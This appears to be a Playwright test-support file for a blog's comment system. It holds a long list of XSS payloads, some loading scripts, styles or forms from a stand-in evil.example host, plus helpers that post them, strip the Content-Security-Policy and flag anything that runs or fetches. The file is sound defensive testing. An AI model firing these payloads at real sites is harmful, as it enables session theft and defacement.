/** Text that wants to be more than text, and the means to see whether it became more. */
import type { BrowserContext, Page, Route } from 'playwright/test';
import { afterword, commentId, type Site } from '../support/site.ts';

/** Written for this site: HTML, attributes, other namespaces, parsers' corners, Markdown's links, protocols, styles, templates, clobbering. */
export const vectors: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/a.js></script>',
  '<SCRIPT/x>alert(1)</SCRIPT >',
  '</script><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script type=module>alert(1)</script>',
  '<script>/*</p>*/alert(1)//</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src=x:x onerror\n=\nalert(1)>',
  '<img src=x onerror=&#97;lert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a.gif 1x">',
  '<image src=x onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<<img src=x onerror=alert(1)//',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '--><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  ']]><img src=x onerror=alert(1)>',
  '</title><img src=x onerror=alert(1)>',
  '</textarea><img src=x onerror=alert(1)>',
  '</style><img src=x onerror=alert(1)>',
  '</bdi></a><img src=x onerror=alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  '" onpointerenter=alert(1) style="position:fixed;inset:0',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set onbegin=alert(1) attributeName=x>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><use href="https://evil.example/a.svg#a"/></svg>',
  '<svg><image href=x onerror=alert(1) /></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<table><td background="https://evil.example/a.gif"><img src=x onerror=alert(1)>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<iframe onload=alert(1)></iframe>',
  '<iframe src=//evil.example></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<object data=x onerror=alert(1)></object>',
  '<embed src="javascript:alert(1)">',
  '<embed src=https://evil.example/a.swf onload=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1) src=x></video>',
  '<video poster=https://evil.example/a.png></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<audio src onloadstart=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<button autofocus onfocus=alert(1)>x</button>',
  '<a href=# autofocus onfocus=alert(1) tabindex=1>x</a>',
  '<div tabindex=1 autofocus onfocus=alert(1)>x</div>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<style>@import "https://evil.example/a.css";</style>',
  '<style>*{background:url(https://evil.example/a)}</style>',
  '<style>@keyframes x{}</style><p style="animation-name:x;animation-duration:1ms" onanimationstart=alert(1)>x',
  '<p style="background:url(https://evil.example/a)">x</p>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<link rel=stylesheet href=x onerror=alert(1)>',
  '<link rel=preload as=image href=https://evil.example/a.png>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=https://evil.example/>',
  '<form id=discussion action=https://evil.example/><input name=comment><button>Post Comment</button></form>',
  '<form action="javascript:alert(1)"><input type=submit autofocus></form>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<img name=getElementById><a id=respond name=body>x</a>',
  '<dialog open><form method=dialog><img src=x onerror=alert(1)></form></dialog>',
  '<xss contenteditable autofocus onfocus=alert(1)>x',
  '<p popover id=x onbeforetoggle=alert(1)>x</p><button popovertarget=x>x</button>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](https://example.org" onmouseover="alert(1))',
  '[x](<https://example.org/"><img src=x onerror=alert(1)>>)',
  '[x][y]\n\n[y]: javascript:alert(1) "x"',
  '![x](https://evil.example/pixel.gif)',
  '![x](x" onerror="alert(1))',
  '<javascript:alert(1)>',
  '<https://example.org/"onmouseover="alert(1)>',
  'https://example.org/"><img/src=x/onerror=alert(1)>',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '```\n</code></pre><img src=x onerror=alert(1)>\n```',
  '`</code><img src=x onerror=alert(1)>`',
  '> <img src=x onerror=alert(1)>',
  '1. <img src=x onerror=alert(1)>',
  '**<img src=x onerror=alert(1)>**',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\<img src=x onerror=alert(1)\\>',
  '＜img src=x onerror=alert(1)＞',
  '﹤img src=x onerror=alert(1)﹥',
  '\u202e<img src=x onerror=alert(1)>\u202d',
  '<img\u00a0src=x\u200bonerror=alert(1)>',
  '{alert(1)} ${alert(1)} {{constructor.constructor("alert(1)")()}}',
  'javascript:alert(1)//https://example.org',
  'https://example.org/?"><script>alert(1)</script>',
  "https://example.org/#'onmouseover=alert(1)//",
  'https://alert(1)@example.org/',
  '//evil.example/x.js',
  '<!--/region--><script>alert(1)</script>',
  '<!--region:trending--><img src=x onerror=alert(1)><!--/region-->',
  "$& $` $' $1 <img src=x onerror=alert(1)>",
];

/** What happened that text cannot do. */
export interface Harm {
  ran: string[];
  fetched: string[];
}

/** Notes on every page of a context what runs, and every request that is none of the site's own files. Lets nothing out. */
export async function watchForHarm(context: BrowserContext, site: Site): Promise<Harm> {
  const harm: Harm = { ran: [], fetched: [] };
  await context.exposeBinding('reportHarm', (_source, what: string) => void harm.ran.push(what));
  await context.addInitScript(() => {
    const report = (what: string) => () => void (Reflect.get(globalThis, 'reportHarm') as (what: string) => void)(what); // the binding above
    for (const name of ['alert', 'confirm', 'prompt', 'print', 'msgbox']) {
      Object.defineProperty(globalThis, name, { value: report(name), writable: false, configurable: false });
    }
    document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => report(`refused by ${violatedDirective}`)());
  });
  context.on('page', (page) => {
    page.on('dialog', (dialog) => {
      harm.ran.push('a dialog');
      void dialog.dismiss();
    });
  });
  await context.route('**', async (route) => {
    const url = new URL(route.request().url());
    const ours =
      url.origin === new URL(site.url).origin &&
      /^\/(_astro\/[\w.-]+|favicon\.svg|service-worker\.js|offline\/|speculation-rules\.[\w-]+\.json|moderation\/[\w/-]*|\d{4}\/\d\d\/[\w-]+\/((comments|reads)\/)?)$/.test(
        url.pathname,
      );
    if (ours && !(await isIsolated(route))) return route.fallback();
    if (ours) return route.abort();
    harm.fetched.push(url.href.slice(0, 120));
    return route.abort();
  });
  return harm;
}

/** A frame inside a page: none belongs there. */
async function isIsolated(route: Route): Promise<boolean> {
  const request = route.request();
  return request.isNavigationRequest() && request.frame().parentFrame() !== null;
}

/** Delivers pages without their Content-Security-Policy. */
export async function withoutPolicy(context: BrowserContext): Promise<void> {
  await context.route('**/*', async (route) => {
    if (route.request().resourceType() !== 'document') return route.fallback();
    const response = await route.fetch();
    const { 'content-security-policy': policy, ...headers } = response.headers();
    if (!policy) throw new Error('There was no policy to take away.');
    await route.fulfill({ response, headers });
  });
}

/** Stores vectors as comment, name and website, each as far as the form takes it, and has those that wait approved. Returns how many were stored. */
export async function storeAll(site: Site, page: string, hostile: readonly string[]): Promise<number> {
  let stored = 0;
  const held: string[] = [];
  for (const [number, vector] of hostile.entries()) {
    const comment = [...vector].slice(0, 10_000).join('');
    const email = `v${number}@example.org`;
    const website = cut(`https://example.org/?${vector.replaceAll(/\s/g, '+')}`, 190);
    const name = cut(vector.replaceAll(/\s+/g, ' '), 240);
    // As it is first; where the form refuses that, in the guise of something it takes.
    for (const fields of [
      { comment, name, email, website: vector },
      { comment, name, email, website },
      { comment, name: `N ${name}`.slice(0, 80), email, website: '' },
    ]) {
      const answer = await site.post(page, fields);
      if (answer.status === 303) {
        stored += 1;
        if (answer.headers.get('location')?.includes('waiting=')) held.push(String(commentId(answer)));
        break;
      }
      if (answer.status >= 500) throw new Error(`${answer.status} for ${vector}`);
    }
  }
  for (let from = 0; from < held.length; from += 200) {
    const { code, output } = await afterword(site.env, 'comments', 'approve', ...held.slice(from, from + 200));
    if (code !== 0) throw new Error(output);
  }
  return stored;
}

function cut(text: string, bytes: number): string {
  return new TextDecoder('utf-8', { fatal: false }).decode(Buffer.from(text).subarray(0, bytes)).replace(/\ufffd$/, '');
}

/** What stands in the comments of a page and must not: elements, attributes and addresses outside of what text may become. */
export async function forbiddenIn(page: Page): Promise<{ comments: number; forbidden: string[] }> {
  return page.evaluate(() => {
    const frame = new Set(['ARTICLE', 'HEADER', 'DIV', 'SPAN', 'BDI', 'TIME']);
    const prose = new Set(['P', 'BR', 'STRONG', 'EM', 'S', 'DEL', 'A', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'PRE', 'CODE']);
    const own = /^(class|id|tabindex|aria-label|aria-hidden|dir|href|rel|datetime|data-reply|data-astro-cid-\w+)$/;
    const articles = [...document.querySelectorAll('article[id^="comment-"]')];
    const forbidden: string[] = [];
    for (const element of articles.flatMap((article) => [article, ...article.querySelectorAll('*')])) {
      const written = element.parentElement?.closest('.prose') ?? null;
      const allowed = written ? prose.has(element.tagName) : frame.has(element.tagName) || prose.has(element.tagName);
      if (!allowed || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') forbidden.push(element.outerHTML.slice(0, 120));
      for (const { name, value } of element.attributes) {
        const known = written
          ? (element.tagName === 'A' && /^(href|rel)$/.test(name)) || (element.tagName === 'OL' && name === 'start')
          : own.test(name);
        if (!known) forbidden.push(`${name} in ${element.outerHTML.slice(0, 120)}`);
        if (
          name === 'href' &&
          !(written || element.parentElement?.matches('.name') ? /^https?:\/\//i : /^(https?:\/\/|#comment-\d|\/\d{4}\/)/i).test(value)
        ) {
          if (!/^#comment-\d+$/.test(value)) forbidden.push(`${value.slice(0, 60)} as address`);
        }
      }
    }
    const strays = document.querySelectorAll(
      'iframe, object, embed, base, meta[http-equiv], body form:not([data-discussion], [action="/reading/"]), script:not([src^="/_astro/"]):not([type="application/ld+json"])',
    );
    for (const stray of strays) forbidden.push(stray.outerHTML.slice(0, 120));
    return { comments: articles.length, forbidden };
  });
}

/** Each vector as HTML in a frame of its own, without any protection. Returns what happened. */
export async function unprotected(page: Page, site: Site, hostile: readonly string[]): Promise<void> {
  const address = `${site.url}/control`;
  for (let from = 0; from < hostile.length; from += 20) {
    const frames = hostile
      .slice(from, from + 20)
      .map((vector) => `<iframe srcdoc="${vector.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`);
    await page.route(address, (route) => route.fulfill({ contentType: 'text/html', body: `<!doctype html>${frames.join('')}` }), {
      times: 1,
    });
    await page.goto(address, { waitUntil: 'load', timeout: 10_000 }).catch(() => undefined); // a vector may well navigate away
  }
}
